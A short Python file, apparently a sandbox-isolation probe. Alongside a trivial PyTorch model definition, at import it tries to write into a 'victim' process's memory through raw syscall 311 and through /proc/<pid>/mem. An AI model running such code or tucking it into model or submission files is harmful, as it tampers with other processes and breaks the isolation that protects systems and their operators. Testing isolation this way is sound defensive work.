"""Writes into the victim's memory, through the call and through the file."""

import ctypes

import field
import torch


def write_by_call():
    text = ctypes.create_string_buffer(b"s")
    here = (ctypes.c_size_t * 2)(ctypes.addressof(text), 1)
    there = (ctypes.c_size_t * 2)(field.ADDRESS, 1)
    return field.syscall(311, field.VICTIM, here, 1, there, 1, 0)


def write_by_file():
    with open(f"/proc/{field.VICTIM}/mem", "r+b", buffering=0) as memory:
        memory.seek(field.ADDRESS)
        return memory.write(b"s")


field.attempt("write by call", write_by_call)
field.attempt("write by file", write_by_file)


def build_model():
    return torch.nn.Sequential(torch.nn.Flatten(), torch.nn.Linear(784, 10))
